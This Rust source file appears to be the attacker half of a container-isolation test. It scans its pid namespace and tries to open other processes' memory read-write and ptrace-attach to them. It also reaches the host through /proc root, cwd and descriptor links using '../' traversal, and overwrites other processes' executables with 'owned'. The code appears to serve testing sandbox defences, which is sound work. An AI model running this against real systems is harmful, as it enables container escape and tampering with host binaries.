//! A process of a container that goes for every other process of its pid namespace, as fast as it can, until the file
//! `/stop` exists; then it reports what it reached.

use std::collections::BTreeSet;
use std::ffi::CString;
use std::io::Write;

use serde_json::json;

use crate::sys;

/// Numbers ahead of the highest one seen that are tried: processes that may just be coming.
const AHEAD: i64 = 4;
/// Descriptors of a process that are tried.
const DESCRIPTORS: i64 = 24;
/// Executables that are kept open, to be written to when nobody executes them any more.
const KEPT: usize = 64;

/// What was reached, and how often.
#[derive(Default)]
struct Reached {
    seen: u64,
    memory: u64,
    attached: u64,
    root: u64,
    cwd: u64,
    /// Descriptors of executables that are not the attacker's own.
    executables: Vec<i64>,
    executable: u64,
    descriptors: u64,
    /// What the descriptors were, by their links.
    files: BTreeSet<String>,
    /// By which of them the marker, a file of the host, was found.
    host: BTreeSet<String>,
    written: u64,
}

/// Runs until it is stopped, and prints the report.
pub(crate) fn run(marker: &str) -> i32 {
    say("ready");
    let marker = format!("{}{}", "../".repeat(30), marker.trim_start_matches('/'));
    let mut reached = Reached::default();
    let own = i64::from(std::process::id());
    let (mut last, mut living) = (own, Vec::new());
    while !std::fs::exists("/stop").unwrap_or(true) {
        for _ in 0..64 {
            for number in last + 1..=last + AHEAD {
                if reached.attack(number, &marker) {
                    reached.seen += 1;
                    living.push(number);
                    last = number;
                }
            }
            living.retain(|number| reached.attack(*number, &marker));
        }
        sys::reap();
        // While this one did not run, others may have come and gone.
        last = last.max(newest() - 1);
    }
    reached.write();
    say(&reached.report());
    0
}

/// The highest number that a process of this pid namespace has.
fn newest() -> i64 {
    let names = std::fs::read_dir("/proc").into_iter().flatten().flatten();
    let numbers = names.filter_map(|entry| entry.file_name().to_str()?.parse().ok());
    numbers.max().unwrap_or(0)
}

fn say(line: &str) {
    let mut stdout = std::io::stdout();
    let _nobody_reads = writeln!(stdout, "{line}").and_then(|()| stdout.flush());
}

/// Opens; a path alone if the flags say so.
fn open(path: &str, flags: i32) -> Option<i64> {
    open_at(i64::from(libc::AT_FDCWD), path, flags)
}

fn open_at(directory: i64, path: &str, flags: i32) -> Option<i64> {
    let path = CString::new(path).ok()?;
    let flags = i64::from(flags | libc::O_CLOEXEC | libc::O_NONBLOCK | libc::O_NOCTTY);
    sys::raw(libc::SYS_openat, [directory, path.as_ptr() as i64, flags, 0, 0, 0]).ok()
}

fn close(fd: i64) {
    let _closed = sys::raw(libc::SYS_close, [fd, 0, 0, 0, 0, 0]);
}

impl Reached {
    /// Tries everything on one process; whether there is one.
    fn attack(&mut self, pid: i64, marker: &str) -> bool {
        let Some(directory) = open(&format!("/proc/{pid}"), libc::O_PATH) else { return false };
        close(directory);
        self.descriptors(pid, marker);
        if let Some(fd) = open(&format!("/proc/{pid}/mem"), libc::O_RDWR) {
            self.memory += 1;
            close(fd);
        }
        self.executable(pid);
        for name in ["root", "cwd"] {
            if let Some(fd) = open(&format!("/proc/{pid}/{name}"), libc::O_PATH) {
                *(if name == "root" { &mut self.root } else { &mut self.cwd }) += 1;
                self.look(fd, marker, name);
                close(fd);
            }
        }
        self.attached += u64::from(sys::attach_and_let_go(pid));
        true
    }

    fn descriptors(&mut self, pid: i64, marker: &str) {
        for number in 0..DESCRIPTORS {
            let path = format!("/proc/{pid}/fd/{number}");
            let Some(fd) = open(&path, libc::O_PATH) else { continue };
            self.descriptors += 1;
            let link = std::fs::read_link(format!("/proc/self/fd/{fd}")).unwrap_or_default();
            let link = link.to_string_lossy().into_owned();
            self.look(fd, marker, &format!("fd {link}"));
            self.files.insert(link);
            close(fd);
        }
    }

    /// Whether the host's marker is found from this directory.
    fn look(&mut self, directory: i64, marker: &str, name: &str) {
        if let Some(found) = open_at(directory, marker, libc::O_PATH) {
            self.host.insert(name.to_owned());
            close(found);
        }
    }

    fn executable(&mut self, pid: i64) {
        let path = format!("/proc/{pid}/exe");
        let Some(fd) = open(&path, libc::O_RDONLY) else { return };
        self.executable += 1;
        let own = std::fs::metadata("/proc/self/exe").ok().as_ref().map(identity);
        let is_own =
            std::fs::metadata(format!("/proc/self/fd/{fd}")).ok().as_ref().map(identity) == own;
        if is_own || self.executables.len() >= KEPT {
            return close(fd);
        }
        self.executables.push(fd);
        let _told_already = std::fs::write("/caught", "");
    }

    /// Overwrites the beginning of every executable that was caught.
    fn write(&mut self) {
        for fd in &self.executables {
            let written = std::fs::OpenOptions::new()
                .write(true)
                .open(format!("/proc/self/fd/{fd}"))
                .and_then(|mut file| file.write_all(b"owned"));
            self.written += u64::from(written.is_ok());
        }
    }

    fn report(&self) -> String {
        json!({
            "seen": self.seen, "memory": self.memory, "attached": self.attached,
            "root": self.root, "cwd": self.cwd, "executable": self.executable,
            "descriptors": self.descriptors, "written": self.written,
            "files": self.files, "host": self.host,
        })
        .to_string()
    }
}

fn identity(metadata: &std::fs::Metadata) -> (u64, u64) {
    use std::os::unix::fs::MetadataExt;
    (metadata.dev(), metadata.ino())
}
